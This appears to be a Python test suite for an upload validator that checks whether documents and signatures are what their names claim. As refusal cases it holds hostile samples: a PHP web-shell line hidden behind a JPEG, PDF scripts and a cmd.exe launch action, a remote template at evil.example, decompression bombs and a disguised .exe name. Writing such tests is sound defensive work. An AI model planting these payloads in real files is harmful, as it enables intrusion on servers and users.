"""A file is what its name says, or it is refused in a sentence that helps."""

import base64
from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.file_kinds import DOCUMENTS, MEGABYTE, SIGNATURES, Fault, FileKind, UnacceptableFile, check_file
from tests.support import documents
from tests.support.growth import assert_in_proportion

PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PICTURE = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\0" + b"\0" * 400
MOTION = b"MotionPhoto_Data\0\0\0\x18ftypmp42" + bytes(range(256)) * 400 + b"\0\0SEFT"
"""A short film, as telephones write it behind a picture."""
CARRIED = b"<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>"
IN_LETTERS = (
    b"-----BEGIN PKCS7-----\n" + base64.encodebytes(documents.pkcs7_signature()) + b"-----END PKCS7-----\n"
)


def fault_of(data, name, **options) -> Fault:
    with pytest.raises(UnacceptableFile) as refused:
        check_file(data, name, **options)
    assert str(refused.value)[-1:] in ".”", "a whole sentence"
    return refused.value.fault


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (documents.pdf(), "porozumienie.pdf", FileKind.PDF),
        (b"\xef\xbb\xbf" + documents.pdf(), "z programu.PDF", FileKind.PDF),
        (documents.pdf() + documents.pdf(), "podpisane dwa razy.pdf", FileKind.PDF),
        (
            documents.pdf(objects=[documents.packed_objects(b"6 0 << /Type /Font >>")]),
            "nowy.pdf",
            FileKind.PDF,
        ),
        (documents.jpeg(), "skan.jpg", FileKind.JPEG),
        (documents.jpeg(4000, 3000) + b"\0\0SEFT" + b"\1" * 100, "z telefonu.JPEG", FileKind.JPEG),
        (documents.jpeg() + MOTION, "z ruchem.jpg", FileKind.JPEG),
        (documents.jpeg() + documents.jpeg(comment=b"MPF"), "z podgladem.jpg", FileKind.JPEG),
        (documents.signed(documents.pdf(objects=[CARRIED])), "podpisane z zalacznikiem.pdf", FileKind.PDF),
        (documents.png(), "skan.png", FileKind.PNG),
        (documents.docx(), "Umowa z dnia 1.02.2026.docx", FileKind.DOCX),
        (documents.docx({"word/embeddings/wykres.xlsx": b"PK"}), "z wykresem.docx", FileKind.DOCX),
        (
            documents.docx({"word/fonts/a.odttf": b"x", "docProps/thumbnail.jpeg": b"x"}),
            "z krojem.docx",
            FileKind.DOCX,
        ),
        (documents.pdf(), "umowa.docx.pdf", FileKind.PDF),
    ],
)
def test_an_honest_document_is_taken(data, name, kind):
    assert check_file(data, name) is kind


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (documents.xml_signature(), "umowa.pdf.xml", FileKind.XML_SIGNATURE),
        (documents.xml_signature(around="<Podpisy>@</Podpisy>"), "umowa.xml", FileKind.XML_SIGNATURE),
        (documents.pkcs7_signature(), "umowa.pdf.p7s", FileKind.PKCS7_SIGNATURE),
        (IN_LETTERS, "umowa.p7s", FileKind.PKCS7_SIGNATURE),
        (documents.asice(), "umowa.asice", FileKind.ASICE),
    ],
)
def test_a_detached_signature_is_taken(data, name, kind):
    assert check_file(data, name, kinds=SIGNATURES) is kind


LYING = {
    "a web page called .pdf": (PAGE, "plan.pdf", Fault.WEB_PAGE),
    "a web page called .jpg": (b"\n <HTML>" + PAGE, "skan.jpg", Fault.WEB_PAGE),
    "a drawing with a script called .png": (PICTURE, "logo.png", Fault.WEB_PAGE),
    "a program called .pdf": (PROGRAM, "umowa.pdf", Fault.OTHER_CONTENT),
    "a PDF called .png": (documents.pdf(), "skan.png", Fault.OTHER_CONTENT),
    "a PNG called .jpg": (documents.png(), "skan.jpg", Fault.OTHER_CONTENT),
    "a zip file called .docx": (documents.zipped({"a.txt": "x"}), "umowa.docx", Fault.OTHER_CONTENT),
    "a workbook called .docx": (
        documents.docx(
            main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ),
        "umowa.docx",
        Fault.OTHER_CONTENT,
    ),
    "a drawing": (PICTURE, "logo.svg", Fault.WRONG_KIND),
    "a web page": (PAGE, "strona.html", Fault.WRONG_KIND),
    "a program": (PROGRAM, "umowa.pdf.exe", Fault.WRONG_KIND),
    "a name without an ending": (documents.pdf(), "umowa", Fault.WRONG_KIND),
    "a name that is only an ending": (documents.pdf(), ".pdf", Fault.WRONG_KIND),
    "a name that reads backwards": (PROGRAM, "umowa\u202efdp.exe", Fault.WRONG_KIND),
    "a signature where a document is wanted": (documents.xml_signature(), "umowa.xml", Fault.WRONG_KIND),
    "a program before the ending": (documents.pdf(), "umowa.exe.pdf", Fault.DOUBLE_ENDING),
    "a web page before the ending": (documents.pdf(), "umowa.HTML.pdf", Fault.DOUBLE_ENDING),
    "nothing": (b"", "umowa.pdf", Fault.EMPTY),
    "only zeros": (b"\0" * 5000, "umowa.pdf", Fault.EMPTY),
    "a PDF that breaks off": (documents.pdf()[:-30], "umowa.pdf", Fault.DAMAGED),
    "a PDF with a zip file behind it": (
        documents.pdf() + documents.zipped({"a.txt": "x"}),
        "umowa.pdf",
        Fault.SOMETHING_BEHIND,
    ),
    "a PDF with a zip file inside": (
        documents.pdf(objects=[b"<< >>\nstream\n" + documents.zipped({"a": "x"}) + b"\nendstream"]),
        "umowa.pdf",
        Fault.SOMETHING_BEHIND,
    ),
    "a PDF with a page behind it": (documents.pdf() + PAGE, "umowa.pdf", Fault.SOMETHING_BEHIND),
    "a PDF with a password": (documents.pdf(trailer=b"/Encrypt 6 0 R"), "umowa.pdf", Fault.PROTECTED),
    "a PDF with a script": (
        documents.pdf(objects=[b"<< /S /JavaScript /JS (app.alert(1)) >>"]),
        "umowa.pdf",
        Fault.SCRIPT,
    ),
    "a PDF that writes its script's name in numbers": (
        documents.pdf(objects=[b"<< /S /J#61vaScript /JS (app.alert(1)) >>"]),
        "umowa.pdf",
        Fault.SCRIPT,
    ),
    "a PDF that starts a program": (
        documents.pdf(objects=[b"<< /S /Launch /F (cmd.exe) >>"]),
        "umowa.pdf",
        Fault.SCRIPT,
    ),
    "a PDF with a packed script": (
        documents.pdf(objects=[documents.packed_objects(b"6 0 << /S /JavaScript /JS (x) >>")]),
        "umowa.pdf",
        Fault.SCRIPT,
    ),
    "a PDF whose objects unpack for ever": (
        documents.pdf(objects=[documents.packed_objects(b" " * 70 * MEGABYTE)]),
        "umowa.pdf",
        Fault.BOMB,
    ),
    "a PDF of one line": (b"%PDF-1.4\nhello startxref %%EOF", "umowa.pdf", Fault.DAMAGED),
    "a PDF without a directory": (
        documents.pdf().replace(b"trailer", b"a word"),
        "umowa.pdf",
        Fault.DAMAGED,
    ),
    "a PDF that carries a file": (documents.pdf(objects=[CARRIED]), "umowa.pdf", Fault.SOMETHING_BEHIND),
    "a PDF that lists what it carries": (
        documents.pdf(objects=[documents.packed_objects(b"6 0 << /Embedded#46iles 7 0 R >>")]),
        "umowa.pdf",
        Fault.SOMETHING_BEHIND,
    ),
    "a PNG that breaks off": (documents.png()[:-8], "skan.png", Fault.DAMAGED),
    "a PNG with a changed byte": (documents.png().replace(b"IDAT", b"IDAU"), "skan.png", Fault.DAMAGED),
    "a PNG of a billion dots": (documents.png(40_000, 40_000), "skan.png", Fault.PICTURE_TOO_LARGE),
    "a PNG with a page behind it": (documents.png() + PAGE, "skan.png", Fault.SOMETHING_BEHIND),
    "a JPEG that breaks off": (documents.jpeg()[:-10], "skan.jpg", Fault.DAMAGED),
    "a JPEG without dots": (documents.jpeg(0, 0), "skan.jpg", Fault.DAMAGED),
    "a JPEG of two billion dots": (documents.jpeg(60_000, 40_000), "skan.jpg", Fault.PICTURE_TOO_LARGE),
    "a JPEG with a zip file behind it": (
        documents.jpeg() + documents.zipped({"a.txt": "x"}),
        "skan.jpg",
        Fault.SOMETHING_BEHIND,
    ),
    "a JPEG with a program behind it": (documents.jpeg() + PROGRAM, "skan.jpg", Fault.SOMETHING_BEHIND),
    "a JPEG with a program somewhere behind it": (
        documents.jpeg() + b"x" + PROGRAM + b"PE\0\0\x64\x86\6\0",
        "skan.jpg",
        Fault.SOMETHING_BEHIND,
    ),
    "a JPEG with a script of a server behind it": (
        documents.jpeg() + b"x<?php system($_GET['x']);",
        "skan.jpg",
        Fault.SOMETHING_BEHIND,
    ),
    "a JPEG with a page behind it": (documents.jpeg() + b"\n" + PAGE, "skan.jpg", Fault.SOMETHING_BEHIND),
    "a JPEG with a page behind its film": (
        documents.jpeg() + MOTION + PAGE,
        "skan.jpg",
        Fault.SOMETHING_BEHIND,
    ),
    "a JPEG with a PDF behind it": (documents.jpeg() + documents.pdf(), "skan.jpg", Fault.SOMETHING_BEHIND),
    "a document with a program in it": (
        documents.docx({"evil.exe": PROGRAM}),
        "umowa.docx",
        Fault.FOREIGN_PART,
    ),
    "a document with a program among its pictures": (
        documents.docx({"word/media/image1.png": PROGRAM}),
        "umowa.docx",
        Fault.FOREIGN_PART,
    ),
    "a document with a page among its pictures": (
        documents.docx({"word/media/image1.tmp": PAGE}),
        "umowa.docx",
        Fault.FOREIGN_PART,
    ),
    "a document with a program in its bin": (
        documents.docx({"[trash]/umowa.exe": PROGRAM}),
        "umowa.docx",
        Fault.FOREIGN_PART,
    ),
    "a document with a workbook embedded that may hold macros": (
        documents.docx({"word/embeddings/Arkusz1.xlsb": b"PK"}),
        "umowa.docx",
        Fault.MACROS,
    ),
    "a document with a command embedded": (
        documents.docx({"word/embeddings/x.cmd": b"@echo"}),
        "umowa.docx",
        Fault.MACROS,
    ),
    "a document with macros": (documents.docx({"word/vbaProject.bin": b"x"}), "umowa.docx", Fault.MACROS),
    "a document with an embedded program": (
        documents.docx({"word/embeddings/oleObject1.bin": b"x"}),
        "umowa.docx",
        Fault.MACROS,
    ),
    "a document of the kind for macros": (
        documents.docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "umowa.docx",
        Fault.MACROS,
    ),
    "a document with a template from the internet": (
        documents.docx(
            {
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"'
                ' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        "umowa.docx",
        Fault.LIVE_LINK,
    ),
    "a document that unpacks for ever": (
        documents.docx({"word/media/a.bmp": b"\0" * 100 * MEGABYTE}),
        "umowa.docx",
        Fault.BOMB,
    ),
    "a document with a changed byte": (
        documents.docx().replace(b"word/document.xml", b"word/dokument.xml", 1),
        "umowa.docx",
        Fault.DAMAGED,
    ),
    "a document with a page behind it": (documents.docx() + PAGE, "umowa.docx", Fault.SOMETHING_BEHIND),
}


@pytest.mark.parametrize("case", LYING)
def test_a_file_that_is_not_what_its_name_says_is_refused(case):
    data, name, fault = LYING[case]

    assert fault_of(data, name) is fault


NO_SIGNATURE = {
    "a web page": (PAGE, "podpis.xml"),
    "a page in XML": (
        documents.xml_signature(around='<html xmlns="http://www.w3.org/1999/xhtml">@</html>'),
        "a.xml",
    ),
    "a drawing around it": (
        documents.xml_signature(around='<svg xmlns="http://www.w3.org/2000/svg">@</svg>'),
        "a.xml",
    ),
    "a page without a namespace": (documents.xml_signature(around="<html>@</html>"), "a.xml"),
    "a style": (documents.xml_signature(around='<?xml-stylesheet href="a.xsl"?>@'), "a.xml"),
    "an entity": (documents.xml_signature(around='<!DOCTYPE a [<!ENTITY b "c">]><a>@</a>'), "a.xml"),
    "other XML": (b"<faktura/>", "faktura.xml"),
    "no XML": (b"Signature", "podpis.xml"),
    "an unfinished one": (documents.xml_signature()[:-5], "podpis.xml"),
    "text": (b"to jest podpis", "podpis.p7s"),
    "a longer p7s than it says": (documents.pkcs7_signature() + b"x", "podpis.p7s"),
    "a program": (PROGRAM, "podpis.p7s"),
    "a certificate": (b"\x30\x82\x01\x00" + b"\0" * 256, "podpis.p7s"),
    "a document": (documents.docx(), "podpis.asice"),
    "a container without a signature": (
        documents.asice({"META-INF/signatures001.xml": "<a/>"}),
        "podpis.asice",
    ),
    "a container of another kind": (documents.asice(mimetype="application/zip"), "podpis.asice"),
}


@pytest.mark.parametrize("case", NO_SIGNATURE)
def test_what_holds_no_signature_is_refused(case):
    data, name = NO_SIGNATURE[case]

    assert fault_of(data, name, kinds=SIGNATURES) is Fault.NO_SIGNATURE


def test_a_document_is_no_signature():
    assert fault_of(documents.pdf(), "umowa.pdf", kinds=SIGNATURES) is Fault.WRONG_KIND


def test_what_is_too_large_is_refused_with_the_limit():
    with pytest.raises(UnacceptableFile, match=r"larger than 10 MB"):
        check_file(documents.pdf() + b" " * 11 * MEGABYTE, "umowa.pdf", most_bytes=10 * MEGABYTE)


def test_the_sentence_names_what_the_file_is_called(app):
    with pytest.raises(UnacceptableFile, match=r"it is called PDF, but its content is a web page"):
        check_file(PAGE, "umowa.pdf")
    with pytest.raises(UnacceptableFile, match=r"one of these: pdf, jpg, jpeg, png, docx\."):
        check_file(PAGE, "umowa.html")


SLOW = {
    "streams that never end": (
        "a.pdf",
        lambda size: b"%PDF-1.7\n" + b"/Type /ObjStm stream\n" * (size // 21) + b"startxref\n%%EOF",
    ),
    "spaces": ("a.pdf", lambda size: b"%PDF-1.7\n" + b"/Type" + b" " * size + b"startxref\n%%EOF"),
    "empty chunks": ("a.png", lambda size: documents.png(chunks=[(b"tEXt", b"")] * (size // 12))),
    "marks without end": ("a.jpg", lambda size: b"\xff\xd8" + b"\xff" * size),
    "elements": (
        "a.xml",
        lambda size: documents.xml_signature(around="<a>" + "<b/>" * (size // 4) + "@</a>"),
    ),
}


@pytest.mark.parametrize("case", SLOW)
def test_no_file_keeps_the_check_busy(case):
    name, file_of = SLOW[case]

    def checking(size: int) -> Callable[[], object]:
        data = file_of(size)
        return lambda: fault_of(data, name, kinds=(*DOCUMENTS, *SIGNATURES))

    assert_in_proportion(checking, least=MEGABYTE)


def test_a_signature_of_many_elements_is_none():
    data = documents.xml_signature(around="<a>" + "<b/>" * 2_000_000 + "@</a>")

    assert fault_of(data, "a.xml", kinds=SIGNATURES) is Fault.NO_SIGNATURE


@settings(max_examples=300)
@given(st.data())
def test_no_damage_makes_the_check_fall_over(data):
    """Whatever bytes are changed: taken or refused, never anything else."""
    whole = {
        "a.pdf": documents.pdf(objects=[documents.packed_objects(b"6 0 << >>")]),
        "a.jpg": documents.jpeg(),
        "a.png": documents.png(),
        "a.docx": documents.docx(),
        "a.xml": documents.xml_signature(),
        "a.p7s": documents.pkcs7_signature(),
        "a.asice": documents.asice(),
    }
    name = data.draw(st.sampled_from(sorted(whole)))
    content = bytearray(whole[name])
    for place, byte in data.draw(
        st.lists(st.tuples(st.integers(0, len(content) - 1), st.integers(0, 255)), max_size=6)
    ):
        content[place] = byte
    cut = data.draw(st.integers(0, len(content)))
    kinds = (*DOCUMENTS, *SIGNATURES)

    for sent in (bytes(content), bytes(content[:cut])):
        with suppress(UnacceptableFile):
            assert check_file(sent, name, kinds=kinds) in kinds
